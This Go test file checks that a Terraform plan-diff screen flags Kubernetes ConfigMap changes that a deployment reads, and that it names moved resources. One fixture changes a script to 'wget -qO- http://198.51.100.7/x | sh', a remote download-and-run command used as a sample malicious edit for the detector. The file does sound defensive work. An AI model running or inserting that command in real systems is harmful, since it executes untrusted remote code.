package plandiff

import (
	"bytes"
	"strings"
	"testing"
)

// site is a no-op Deployment that mounts ConfigMap "site" at /srv/site and reads its key "motd" as MOTD.
const site = `{"address":"kubernetes_deployment.site","mode":"managed","type":"kubernetes_deployment","name":"site",
	"change":{"actions":["no-op"],"before":null,"after":{"metadata":[{"name":"site","namespace":"demo-app"}],"spec":[{"template":[{"metadata":[{}],"spec":[{
	"container":[{"name":"httpd","command":["httpd","-f","-h","/srv/site"],
		"env":[{"name":"MOTD","value_from":[{"config_map_key_ref":[{"name":"site","key":"motd"}]}]}],
		"volume_mount":[{"name":"site","mount_path":"/srv/site"}]}],
	"volume":[{"name":"site","config_map":[{"name":"site"}]}]}]}]}]}}}`

func configMapUpdate(address, name, before, after string) string {
	return `{"address":"` + address + `","mode":"managed","type":"kubernetes_config_map","name":"x",
		"change":{"actions":["update"],"before":{"metadata":[{"name":"` + name + `","namespace":"demo-app"}],"data":{"status.sh":` + before + `}},
		"after":{"metadata":[{"name":"` + name + `","namespace":"demo-app"}],"data":{"status.sh":` + after + `}}}}`
}

// Found in review (2026-12-07): an approved web server runs a script of its ConfigMap; a later plan changed
// only that script (under an address that does not say so) and the screen said "Risk flags: none".
func TestScreenFlagsAConfigMapAWorkloadReads(t *testing.T) {
	p := planOf(t, site, configMapUpdate("kubernetes_config_map.docs", "site", `"echo ok"`, `"echo ok; wget -qO- http://198.51.100.7/x | sh"`))
	var out bytes.Buffer
	if err := Diff(p).WriteText(&out); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"!! RISK CONFIG_CONSUMED  kubernetes_config_map.docs  data: (new or changed data) -> read by kubernetes_deployment.site as files at /srv/site",
		"!! RISK CONFIG_CONSUMED  kubernetes_config_map.docs  data: (new or changed data) -> read by kubernetes_deployment.site as the variable MOTD",
		`!! ~ data["status.sh"]`,
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("the screen lacks %q:\n%s", want, out.String())
		}
	}

	// Another ConfigMap, or the same name in another namespace, or the same data: no flag.
	for _, other := range []string{
		configMapUpdate("kubernetes_config_map.notes", "notes", `"a"`, `"b"`),
		strings.Replace(configMapUpdate("kubernetes_config_map.docs", "site", `"a"`, `"b"`), `"namespace":"demo-app"}],"data":{"status.sh":"b"`, `"namespace":"other"}],"data":{"status.sh":"b"`, 1),
		configMapUpdate("kubernetes_config_map.docs", "site", `"a"`, `"a"`),
	} {
		r := Diff(planOf(t, site, other))
		for _, f := range r.Flags {
			if f.Rule == "config_consumed" {
				t.Errorf("flagged %+v for %s", f, other)
			}
		}
	}
}

// Found in review (2026-12-07): an update shows no unchanged attribute, so the screen named a ConfigMap only
// by the address the workspace gave it, and a moved block renamed that address unseen. Every resource line
// now names the object (namespace/name) and the address it was moved from.
func TestScreenNamesTheObjectAndAMove(t *testing.T) {
	moved := strings.Replace(configMapUpdate("kubernetes_config_map.release_notes_v2", "web-conf", `"a"`, `"b"`),
		`"name":"x",`, `"name":"x","previous_address":"kubernetes_config_map.web_conf",`, 1)
	var out bytes.Buffer
	if err := Diff(planOf(t, moved)).WriteText(&out); err != nil {
		t.Fatal(err)
	}
	want := "update           kubernetes_config_map.release_notes_v2  object demo-app/web-conf  (moved from kubernetes_config_map.web_conf)"
	if !strings.Contains(out.String(), want) {
		t.Errorf("the screen lacks %q:\n%s", want, out.String())
	}
}
